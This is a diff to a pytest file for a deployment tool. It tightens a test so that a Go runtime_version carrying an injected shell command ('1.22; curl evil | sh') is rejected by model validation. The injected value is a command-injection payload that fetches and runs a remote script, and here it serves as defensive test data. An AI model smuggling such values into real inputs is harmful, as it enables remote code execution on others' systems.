@@ -6,6 +6,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
+from pydantic import ValidationError
 
 from hivemind.errors import PlanError
 from hivemind.models import DeploymentPlan, PlanOverrides
@@ -125,8 +126,10 @@ def test_go_comes_from_go_dev_only_when_the_packaged_go_is_older(tmp_path, wante
 
 
 def test_a_go_version_that_is_not_a_version_never_reaches_the_script():
-    install, _ = RUNTIMES["go"](DeploymentPlan(**{**GO, "runtime_version": "1.22; curl evil | sh"}))
-    assert "evil" not in install and "go.dev" not in install
+    with pytest.raises(ValidationError, match="runtime_version"):  # the plan itself refuses shell words
+        DeploymentPlan(**{**GO, "runtime_version": "1.22; curl evil | sh"})
+    install, _ = RUNTIMES["go"](DeploymentPlan(**{**GO, "runtime_version": "golang:1.22-alpine"}))
+    assert "golang:1.22" not in install and "go.dev" not in install  # a well-formed non-version downloads nothing
 
 
 def _fake_jdk(tmp_path: Path, name: str) -> Path:
